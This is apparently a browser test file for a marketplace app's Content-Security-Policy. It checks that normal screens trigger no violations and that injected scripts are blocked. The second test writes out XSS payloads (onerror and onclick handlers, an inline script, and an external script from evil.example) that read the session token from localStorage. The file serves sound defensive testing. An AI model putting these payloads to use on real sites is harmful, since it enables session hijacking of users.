// Issue 13 point 2: the Content-Security-Policy in the browser. The session token lives in
// localStorage, so the policy is what stands between an injected script and the session: a
// script that gets into a page (here put there directly, as if a sanitizer had missed it) does
// not run, and normal use of the screens reports no violation.
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import {
  DEMO_PASSWORD,
  logIn,
  openPage,
  openPageAs,
  sessionThroughApi,
  waitForPath,
} from './browser.ts';
import { launchChromium } from './chromium.ts';

const baseUrl = inject('baseUrl');

let browser: Browser;
beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(async () => {
  await browser.close();
});

declare global {
  interface Window {
    __csp?: string[];
    __pwned?: string;
  }
}

/** Every CSP violation the page reports, as 'directive blocked-uri'. */
async function recordViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    window.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      window.__csp?.push(`${e.effectiveDirective} ${e.blockedURI}`);
    });
  });
}

const violations = (page: Page) => page.evaluate(() => window.__csp ?? []);

describe('Content-Security-Policy (issue 13 point 2)', () => {
  it('normal use reports no violation: login with the verification widget, listings, a listing', async () => {
    const { context, page } = await openPage(browser, baseUrl);
    try {
      await recordViolations(page);
      await logIn(page, 'seller', DEMO_PASSWORD);
      await waitForPath(page, '/');
      await page.getByTestId('sidebar').waitFor();
      await page.goto('/Publicaciones');
      await page.getByTestId('listings-counters').waitFor();
      await page.goto('/Publicaciones/Editar/1/1');
      await page.getByRole('heading', { name: 'Editar publicación' }).waitFor();
      await page.goto('/Diagramas');
      await page.getByRole('heading', { level: 1 }).first().waitFor();
      expect(await violations(page)).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it('a script injected into a screen does not run, and the session stays unread', async () => {
    // Signed in without the login screen (the test above and session.spec go through it).
    const session = await sessionThroughApi(baseUrl, 'seller');
    const { context, page } = await openPageAs(browser, baseUrl, session);
    try {
      await recordViolations(page);
      await page.goto('/Publicaciones/Editar/1/1');
      await page.getByRole('heading', { name: 'Editar publicación' }).waitFor();
      // What an XSS in a description or a notification would add to the page.
      await page.evaluate(() => {
        const steal = "window.__pwned = localStorage.getItem('market.token')";
        document.body.insertAdjacentHTML(
          'beforeend',
          `<img src="/no-existe.png" onerror="${steal}"><div onclick="${steal}" id="x">x</div>`,
        );
        const script = document.createElement('script');
        script.textContent = steal;
        document.body.append(script);
        const external = document.createElement('script');
        external.src = 'https://evil.example/steal.js';
        document.body.append(external);
      });
      await page.locator('#x').click();
      await expect
        .poll(() => violations(page))
        .toEqual(
          expect.arrayContaining([
            expect.stringMatching(/^script-src-attr /),
            expect.stringMatching(/^script-src-elem inline/),
            expect.stringMatching(/^script-src-elem https:\/\/evil\.example/),
          ]),
        );
      expect(await page.evaluate(() => window.__pwned)).toBeUndefined();
    } finally {
      await context.close();
    }
  });
});
